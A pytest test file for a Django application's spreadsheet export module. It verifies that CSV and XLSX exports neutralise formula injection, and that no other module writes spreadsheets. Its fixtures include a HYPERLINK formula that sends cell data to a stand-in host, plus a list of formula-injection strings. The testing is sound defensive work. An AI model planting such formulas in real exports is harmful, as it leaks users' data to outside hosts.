"""core.export: every spreadsheet the application writes is inert, and only it writes them."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.http import HttpResponse
from django.test import RequestFactory
from openpyxl import load_workbook

from liaison.accounts.roles import Role
from liaison.core import export
from liaison.core.export import (
    csv_response,
    export_format,
    table_response,
    xlsx_response,
)
from liaison.core.middleware import PrivateResponsesMiddleware

PAYLOAD = '=HYPERLINK("http://x/?"&A1)'
DANGEROUS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", PAYLOAD]
HEADER = ["name", "value"]


def csv_cells(response: HttpResponse) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response: HttpResponse) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def sheet_xml(response: HttpResponse) -> str:
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


# --- CSV: dangerous text gets the OWASP single-quote prefix ---------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_prefixes_a_cell_that_would_start_a_formula(text):
    response = csv_response("t.csv", HEADER, [text], lambda t: [t, 1])
    assert csv_cells(response)[1] == ["'" + text, "1"]


def test_csv_keeps_ordinary_values_readable():
    values = ["Ana María", "O'Brien", "Quispe, Ana", "50 %", 7, -5, Decimal("-1.50"), None, True]
    response = csv_response(
        "t.csv", ["a", "b", "c", "d", "e", "f", "g", "h", "i"], [1], lambda _: values
    )
    assert csv_cells(response)[1] == [
        "Ana María",
        "O'Brien",
        "Quispe, Ana",
        "50 %",
        "7",
        "-5",  # a number cannot hold a formula: it stays a number
        "-1.50",
        "",
        "True",
    ]


def test_csv_text_that_looks_like_a_negative_number_is_prefixed_too():
    """OWASP: any text cell starting with '-' or '+' (a phone number, "-5" typed as a note)."""
    response = csv_response("t.csv", ["a", "b"], [1], lambda _: ["-5", "+51 1 234 5678"])
    assert csv_cells(response)[1] == ["'-5", "'+51 1 234 5678"]


def test_csv_neutralises_the_header_too_and_names_the_file():
    response = csv_response("people.csv", ["=cmd"], [], list)
    assert csv_cells(response) == [["'=cmd"]]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="people.csv"'


# --- XLSX: text cells, never formulas ---------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_xlsx_writes_a_formula_like_text_as_an_inert_text_cell(text):
    response = xlsx_response("t.xlsx", HEADER, [[text, 1]])
    cell = xlsx_cells(response)[1][0]
    # Excel evaluates only <f> elements; this is a text cell holding the exact text, with the
    # quote prefix Excel itself sets for a typed leading apostrophe (text even once edited).
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # XML reads a carriage return as a newline
    assert cell.quotePrefix is True
    assert "<f>" not in sheet_xml(response) and "<f " not in sheet_xml(response)


def test_xlsx_keeps_numbers_dates_and_ordinary_text_typed():
    row = ["Ana María", -5, 1.5, Decimal("2.25"), date(2015, 10, 1), True, None, "-5", "#N/A"]
    response = xlsx_response("t.xlsx", [str(i) for i in range(len(row))], [row])
    cells = xlsx_cells(response)[1]
    assert [c.value for c in cells[:6]] == ["Ana María", -5, 1.5, 2.25, cells[4].value, True]
    assert cells[4].value.date() == date(2015, 10, 1)
    assert [c.data_type for c in cells[:6]] == ["s", "n", "n", "n", "d", "b"]
    assert cells[0].quotePrefix is False
    assert cells[6].value is None
    # Text stays text: "-5" typed as text, and "#N/A" is not turned into an error value.
    assert (cells[7].value, cells[7].data_type, cells[7].quotePrefix) == ("-5", "s", True)
    assert (cells[8].value, cells[8].data_type) == ("#N/A", "s")


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    response = xlsx_response("t.xlsx", ["a"], [["Ana\x00\x07 Quispe"]])
    assert xlsx_cells(response)[1][0].value == "Ana Quispe"


def test_xlsx_cuts_text_at_what_a_cell_holds():
    response = xlsx_response("t.xlsx", ["a"], [["x" * 40_000]])
    assert len(xlsx_cells(response)[1][0].value) == 32_767


def test_xlsx_header_and_file():
    response = xlsx_response("year-plan-3.xlsx", ["=cmd", "b"], [])
    header = xlsx_cells(response)[0]
    assert [(c.value, c.data_type, c.quotePrefix) for c in header] == [
        ("=cmd", "s", True),
        ("b", "s", False),
    ]
    assert response["Content-Disposition"] == 'attachment; filename="year-plan-3.xlsx"'
    assert load_workbook(io.BytesIO(response.content)).sheetnames == ["year-plan-3"]


# --- one call for either format; personal data ------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_table_response_answers_either_format_with_the_same_rows(fmt):
    response = table_response(fmt, "things", HEADER, [("Ana", 1), (PAYLOAD, 2)], list)
    assert response["Content-Disposition"] == f'attachment; filename="things.{fmt}"'
    if fmt == "csv":
        assert csv_cells(response) == [HEADER, ["Ana", "1"], ["'" + PAYLOAD, "2"]]
    else:
        assert [[c.value for c in row] for row in xlsx_cells(response)] == [
            HEADER,
            ["Ana", 1],
            [PAYLOAD, 2],
        ]
    # Not personal data: the response says nothing about caching.
    assert "no-store" not in response.get("Cache-Control", "")


def test_table_response_refuses_an_unknown_format():
    with pytest.raises(ValueError):
        table_response("ods", "things", HEADER, [], list)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_personal_data_exports_are_never_stored(fmt):
    response = table_response(fmt, "people", HEADER, [], list, personal_data=True)
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]


@pytest.mark.django_db
def test_on_export_is_told_every_item_a_batch_at_a_time(monkeypatch):
    monkeypatch.setattr(export, "RECORD_BATCH", 2)
    seen: list[tuple[list[int], str]] = []
    response = table_response(
        "xlsx",
        "people",
        HEADER,
        iter([1, 2, 3, 4, 5]),
        lambda n: [f"n{n}", n],
        on_export=lambda items, filename: seen.append((list(items), filename)),
    )
    assert seen == [([1, 2], "people.xlsx"), ([3, 4], "people.xlsx"), ([5], "people.xlsx")]
    assert len(xlsx_cells(response)) == 6
    assert "no-store" in response["Cache-Control"]


def test_export_format_reads_the_query_string():
    factory = RequestFactory()
    assert export_format(factory.get("/?format=csv")) == "csv"
    assert export_format(factory.get("/?format=xlsx")) == "xlsx"
    assert export_format(factory.get("/?format=pdf")) is None
    assert export_format(factory.get("/")) is None


@pytest.mark.django_db
def test_every_page_is_sent_no_store_unless_it_says_how_to_cache(client, users):
    """The middleware: pages not written yet are covered too; a response with its own rule
    (a feed, a static file) keeps it."""
    client.force_login(users[Role.PROGRAM_MANAGER])
    for url in ("/", "/people/", "/visits/", "/vetting/", "/api/v1/people/"):
        response = client.get(url)
        assert "no-store" in response["Cache-Control"], url
    middleware = PrivateResponsesMiddleware(lambda request: _cached())
    assert middleware(RequestFactory().get("/"))["Cache-Control"] == "max-age=60"


def _cached() -> HttpResponse:
    response = HttpResponse("feed")
    response["Cache-Control"] = "max-age=60"
    return response


# --- nothing else writes a spreadsheet ---------------------------------------------------------

SRC = Path(__file__).resolve().parents[2]  # src/liaison
EXPORT_MODULE = SRC / "core" / "export.py"
FORBIDDEN_ATTRIBUTES = {"writer", "DictWriter"}  # csv.writer, csv.DictWriter
FORBIDDEN_CALLS = {"Workbook", "DictWriter"}  # a workbook made to be written
FORBIDDEN_MODULES = ("defusedcsv", "xlsxwriter", "openpyxl.writer")
# The content types of CSV and XLSX responses (not the XML namespaces a reader looks for).
FORBIDDEN_STRINGS = ("text/csv", "officedocument.spreadsheetml")


def export_bypasses(source: str) -> list[str]:
    """What in ``source`` writes a CSV or XLSX, or answers one, without core.export."""
    found = []
    csv_modules = {"csv"}
    for node in ast.walk(ast.parse(source)):
        where = f"line {getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name == "csv":
                    csv_modules.add(alias.asname or "csv")
                if alias.name.startswith(FORBIDDEN_MODULES):
                    found.append(f"{where}: import {alias.name}")
        elif isinstance(node, ast.ImportFrom):
            module = node.module or ""
            names = {alias.name for alias in node.names}
            if module.startswith(FORBIDDEN_MODULES):
                found.append(f"{where}: from {module} import …")
            if module == "csv" and names & FORBIDDEN_ATTRIBUTES:
                found.append(f"{where}: from csv import {', '.join(sorted(names))}")
        elif isinstance(node, ast.Attribute):
            base = node.value.id if isinstance(node.value, ast.Name) else ""
            if node.attr in FORBIDDEN_ATTRIBUTES and base in csv_modules:
                found.append(f"{where}: {base}.{node.attr}")
        elif isinstance(node, ast.Call):
            func = node.func
            called = func.id if isinstance(func, ast.Name) else getattr(func, "attr", "")
            if called in FORBIDDEN_CALLS:
                found.append(f"{where}: {called}(…)")
        elif (
            isinstance(node, ast.Constant)
            and isinstance(node.value, str)
            and any(s in node.value for s in FORBIDDEN_STRINGS)
        ):
            found.append(f"{where}: {node.value[:40]!r}")
    return found


# Modules that write a CSV for Liaison itself to read, never for a person: each says why.
NOT_EXPORTS = {
    SRC / "demo" / "management" / "commands" / "bench_import.py": (
        "writes a partner's roster, as Excel saves it, to time the roster import"
    ),
}


def _application_modules() -> list[Path]:
    return [
        path
        for path in sorted(SRC.rglob("*.py"))
        if path != EXPORT_MODULE
        and path not in NOT_EXPORTS
        and "tests" not in path.relative_to(SRC).parts
        and "migrations" not in path.relative_to(SRC).parts
        and path.name != "conftest.py"
    ]


def test_no_module_but_core_export_writes_a_spreadsheet():
    modules = _application_modules()
    assert len(modules) > 50 and SRC / "people" / "views.py" in modules
    bypasses = {
        str(path.relative_to(SRC)): found
        for path in modules
        if (found := export_bypasses(path.read_text(encoding="utf-8")))
    }
    assert bypasses == {}, "Write CSV and XLSX through liaison.core.export only"
    assert all(path.exists() for path in NOT_EXPORTS)


@pytest.mark.parametrize(
    "source",
    [
        "import csv\nw = csv.writer(response)",
        "import csv as c\nw = c.DictWriter(f, ['a'])",
        "from csv import writer",
        "from openpyxl import Workbook\nbook = Workbook(write_only=True)",
        "import openpyxl\nbook = openpyxl.Workbook()",
        "from openpyxl.writer.excel import save_workbook",
        "from defusedcsv import csv",
        "r = HttpResponse(content_type='text/csv')",
        "t = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'",
    ],
)
def test_the_bypass_check_sees_each_way_round_it(source):
    assert export_bypasses(source)


def test_the_bypass_check_lets_reading_through():
    source = (
        "import csv\nfrom openpyxl import load_workbook\n"
        "from openpyxl.workbook.workbook import Workbook\n"
        "rows = list(csv.reader(f))\nbook: Workbook = load_workbook(f, read_only=True)\n"
        "MAIN = '{http://schemas.openxmlformats.org/spreadsheetml/2006/main}'\n"
    )
    assert export_bypasses(source) == []


def test_a_csv_starts_with_the_byte_order_mark_excel_needs_for_accents():
    response = export.csv_response("people.csv", ["family_name"], [["Peña"]], list)
    assert response.content.startswith("\ufeff".encode())
    assert response.content.decode("utf-8-sig").splitlines()[1] == "Peña"
